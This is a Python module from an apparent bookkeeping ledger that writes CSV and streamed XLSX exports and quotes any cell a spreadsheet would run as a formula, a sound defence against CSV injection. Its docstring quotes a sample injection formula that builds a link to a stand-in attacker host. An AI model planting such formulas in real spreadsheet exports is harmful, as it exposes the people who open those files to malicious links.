"""Spreadsheet files: cells that never run as formulas, and XLSX written as a stream.

**Text never runs.** A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return as a formula (OWASP's "CSV injection"): a household named
``=HYPERLINK("http://evil.example/?x","Click")`` would become a live link in the auditor's
Excel. Every cell of every CSV (``french.csv_text``) and XLSX (``Book``) the ledger writes
goes through this module, which puts a single quote before such a text
(``'=HYPERLINK(...)``; Excel shows it as text and runs nothing).

**Numbers stay numbers.** In an XLSX, amounts, counts, rates and dates are number cells,
never text: only texts are neutralised. In a CSV every cell is text, so the rule looks at
the text (``csv_value``): a cell that is a number in the CSV's French notation (an optional
minus, digits, an optional decimal comma and digits: ``-12,34``, ``-3``) is left as it is,
so that a negative amount is still a number when a French Excel opens the file and
``Decimal(cell.replace(",", "."))`` still parses it. Such a cell holds no formula, whoever
wrote it; every other cell that starts with one of the six characters is quoted, whoever
wrote it (a label of the code as much as a name a user typed).

**Linear XLSX.** ``Book`` writes the few parts of a SpreadsheetML package a workbook of
values needs (ECMA-376: the workbook, its sheets, their styles, the core properties), each
row straight into its sheet's XML as it is appended: the time grows with the number of
cells. openpyxl in write-only mode was measured first, and wrote 50,000 rows of the cash
journal in about 11 s, above the 10 s target, nearly all of it in its per-cell XML
serialisation (docs/performance.md; ``python -m bench exports``). Texts are inline strings,
figures numbers, days Excel serial numbers with a date format. The package's members are
dated at the generation time, so the same file generated at the same time is the same bytes.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from hacienda_ledger import __version__
from hacienda_ledger.aggregates.values import PARIS

# OWASP, CSV injection: the first characters a spreadsheet may read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_CSV_NUMBER = re.compile(r"-?\d+(,\d+)?")


def neutralised(text: str) -> str:
    """The text with a single quote before it if a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_value(value: Any) -> str:
    """A CSV cell: nothing as an empty cell, a number (or a text that is a number in French
    notation) as it is, any other text neutralised."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal):  # a number given as one: not text
        return str(value)
    text = str(value)
    return text if _CSV_NUMBER.fullmatch(text) else neutralised(text)


# --- XLSX ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Style:
    """How a cell looks: a number format (for figures and days only: a text in the same
    column keeps the font and fill, not the format), bold, font size, solid fill (RGB)."""

    number_format: str | None = None
    bold: bool = False
    size: int = 11
    fill: str | None = None

    def for_text(self) -> Style:
        return Style(None, self.bold, self.size, self.fill)


PLAIN = Style()
BOLD = Style(bold=True)
DAY_FORMAT = "DD/MM/YYYY"  # a day in a column with no number format: the French day
_EPOCH = date(1899, 12, 30)  # Excel's day 0 (day 60, 29 February 1900, never existed)

_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _text(value: str) -> str:
    """A text as XML character data: markup escaped, a carriage return kept (as a character
    reference, which parsers do not turn into a line feed), characters XML cannot hold
    (controls, lone surrogates) replaced by U+FFFD."""
    text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if "\r" in text:
        text = text.replace("\r", "&#13;")
    return _ILLEGAL.sub("\ufffd", text)


def _attribute(value: str) -> str:
    return _text(value).replace('"', "&quot;")


def _column_letter(n: int) -> str:
    """``0`` -> ``A``, ``25`` -> ``Z``, ``26`` -> ``AA``."""
    letters = ""
    n += 1
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _serial(day: date) -> str:
    """A day (or a naive moment) as Excel's serial number."""
    if isinstance(day, datetime):
        if day.tzinfo is not None:
            raise ValueError("a spreadsheet moment has no time zone: give it in Paris time")
        delta = day - datetime(1899, 12, 30)  # noqa: DTZ001 (Excel's naive epoch)
        return repr(delta.days + delta.seconds / 86400 + delta.microseconds / 86400e6)
    return str((day - _EPOCH).days)


class _Styles:
    """The workbook's styles: each distinct ``Style`` numbered in the order first used."""

    def __init__(self) -> None:
        self.index: dict[Style, int] = {PLAIN: 0}
        self.formats: dict[str, int] = {}
        self.fonts: dict[tuple[bool, int], int] = {(False, 11): 0}
        self.fills: dict[str | None, int] = {None: 0}  # (1 is the gray125 Excel expects)

    def attribute(self, style: Style) -> str:
        """`` s="n"`` for a styled cell, nothing for a plain one."""
        n = self.index.get(style)
        if n is None:
            n = self.index[style] = len(self.index)
            if style.number_format is not None:
                self.formats.setdefault(style.number_format, 164 + len(self.formats))
            self.fonts.setdefault((style.bold, style.size), len(self.fonts))
            if style.fill is not None:
                self.fills.setdefault(style.fill, len(self.fills) + 1)
        return f' s="{n}"' if n else ""

    def xml(self) -> str:
        formats = "".join(
            f'<numFmt numFmtId="{n}" formatCode="{_attribute(code)}"/>'
            for code, n in self.formats.items()
        )
        fonts = "".join(
            f'<font>{"<b/>" if bold else ""}<sz val="{size}"/><name val="Calibri"/>'
            '<family val="2"/></font>'
            for bold, size in self.fonts
        )
        fills = '<fill><patternFill patternType="none"/></fill>' + (
            '<fill><patternFill patternType="gray125"/></fill>'
        )
        fills += "".join(
            f'<fill><patternFill patternType="solid"><fgColor rgb="FF{rgb}"/></patternFill></fill>'
            for rgb in self.fills
            if rgb is not None
        )
        xfs = ""
        for style in self.index:
            number = self.formats[style.number_format] if style.number_format else 0
            font = self.fonts[(style.bold, style.size)]
            fill = self.fills[style.fill]
            applied = "".join(
                f' apply{what}="1"'
                for what, used in (("NumberFormat", number), ("Font", font), ("Fill", fill))
                if used
            )
            xfs += (
                f'<xf numFmtId="{number}" fontId="{font}" fillId="{fill}" borderId="0" '
                f'xfId="0"{applied}/>'
            )
        return (
            f'{XML_HEAD}<styleSheet xmlns="{MAIN}">'
            f'<numFmts count="{len(self.formats)}">{formats}</numFmts>'
            f'<fonts count="{len(self.fonts)}">{fonts}</fonts>'
            f'<fills count="{len(self.fills) + 1}">{fills}</fills>'
            '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border>'
            "</borders>"
            '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
            "</cellStyleXfs>"
            f'<cellXfs count="{len(self.index)}">{xfs}</cellXfs>'
            '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
            "</cellStyles></styleSheet>"
        )


class Sheet:
    """One sheet of a ``Book``: each row is written into the sheet's XML when appended."""

    def __init__(self, styles: _Styles, title: str, widths: Sequence[float]) -> None:
        self.title = title
        self._styles = styles
        self._rows: list[str] = []
        self._count = 0
        self._columns: list[str] = []
        self._cols = "".join(
            f'<col min="{n}" max="{n}" width="{width}" customWidth="1"/>'
            for n, width in enumerate(widths, start=1)
        )

    def row(self, values: Sequence[Any], styles: Sequence[Style | None] = ()) -> None:
        """Append a row: texts neutralised, figures as numbers, days as dates; each cell in
        its column's style (``styles``; plain past its end), a number format on figures and
        days only (``DAY_FORMAT`` on a day whose column has none)."""
        self._count += 1
        r = self._count
        while len(self._columns) < len(values):
            self._columns.append(_column_letter(len(self._columns)))
        cells = []
        for n, value in enumerate(values):
            if value is None or (isinstance(value, str) and not value):
                continue  # an empty cell (no empty text: openpyxl writes none either)
            style = (styles[n] if n < len(styles) else None) or PLAIN
            figure = False  # a number or a day: the column's number format applies
            if isinstance(value, bool):
                content = f' t="b"><v>{int(value)}</v>'
            elif isinstance(value, int | Decimal | float):
                content, figure = f"><v>{value}</v>", True
            elif isinstance(value, date):
                content, figure = f"><v>{_serial(value)}</v>", True
                if style.number_format is None:
                    style = Style(DAY_FORMAT, style.bold, style.size, style.fill)
            else:  # a text (or an id, as its text)
                text = _text(neutralised(value if isinstance(value, str) else str(value)))
                content = f' t="inlineStr"><is><t xml:space="preserve">{text}</t></is>'
            if style.number_format and not figure:
                style = style.for_text()
            s = self._styles.attribute(style)
            cells.append(f'<c r="{self._columns[n]}{r}"{s}{content}</c>')
        if cells:
            self._rows.append(f'<row r="{r}">{"".join(cells)}</row>')

    def xml(self) -> str:
        cols = f"<cols>{self._cols}</cols>" if self._cols else ""
        return (
            f'{XML_HEAD}<worksheet xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}">{cols}'
            f"<sheetData>{''.join(self._rows)}</sheetData></worksheet>"
        )


class Book:
    """A workbook of values, written sheet after sheet, row after row."""

    def __init__(self) -> None:
        self._styles = _Styles()
        self._sheets: list[Sheet] = []

    def sheet(self, title: str, widths: Sequence[float] = ()) -> Sheet:
        """A new sheet (``title``: at most 31 characters, none of ``[]:*?/\\``), its columns
        ``widths`` wide in characters."""
        sheet = Sheet(self._styles, title, widths)
        self._sheets.append(sheet)
        return sheet

    def save(
        self, generated_at: datetime, *, title: str | None = None, keywords: str | None = None
    ) -> bytes:
        """The XLSX bytes, made by this software at ``generated_at``: the time in the core
        properties (UTC) and on every member of the archive (Paris time)."""
        sheets = self._sheets
        when = generated_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        local = generated_at.astimezone(PARIS)
        stamp = (max(local.year, 1980), local.month, local.day, local.hour, local.minute, 0)
        sheet_types = "".join(
            f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for n in range(1, len(sheets) + 1)
        )
        types = (
            f'{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{sheet_types}"
            '<Override PartName="/xl/styles.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
            '<Override PartName="/docProps/core.xml" ContentType="application/'
            'vnd.openxmlformats-package.core-properties+xml"/></Types>'
        )
        package_rels = (
            f'{XML_HEAD}<Relationships xmlns="{PACKAGE_RELATIONSHIPS}">'
            f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/officeDocument" '
            'Target="xl/workbook.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
            'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            "</Relationships>"
        )
        optional = ""
        if title is not None:
            optional += f"<dc:title>{_text(title)}</dc:title>"
        if keywords is not None:
            optional += f"<cp:keywords>{_text(keywords)}</cp:keywords>"
        core = (
            f'{XML_HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
            'package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"'
            ' xmlns:dcterms="http://purl.org/dc/terms/" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            f"<dc:creator>hacienda-ledger {__version__}</dc:creator>{optional}"
            f'<dcterms:created xsi:type="dcterms:W3CDTF">{when}</dcterms:created>'
            f'<dcterms:modified xsi:type="dcterms:W3CDTF">{when}</dcterms:modified>'
            "</cp:coreProperties>"
        )
        workbook = (
            f'{XML_HEAD}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>'
            + "".join(
                f'<sheet name="{_attribute(s.title)}" sheetId="{n}" r:id="rId{n}"/>'
                for n, s in enumerate(sheets, start=1)
            )
            + "</sheets></workbook>"
        )
        workbook_rels = (
            f'{XML_HEAD}<Relationships xmlns="{PACKAGE_RELATIONSHIPS}">'
            + "".join(
                f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/worksheet" '
                f'Target="worksheets/sheet{n}.xml"/>'
                for n in range(1, len(sheets) + 1)
            )
            + f'<Relationship Id="rId{len(sheets) + 1}" Type="{RELATIONSHIPS}/styles" '
            'Target="styles.xml"/></Relationships>'
        )
        parts = [
            ("[Content_Types].xml", types),
            ("_rels/.rels", package_rels),
            ("docProps/core.xml", core),
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", workbook_rels),
            *((f"xl/worksheets/sheet{n}.xml", s.xml()) for n, s in enumerate(sheets, start=1)),
            ("xl/styles.xml", self._styles.xml()),  # last: every sheet's styles are known
        ]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, text in parts:
                member = zipfile.ZipInfo(name, date_time=stamp)
                member.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(member, text.encode("utf-8"))
        return out.getvalue()
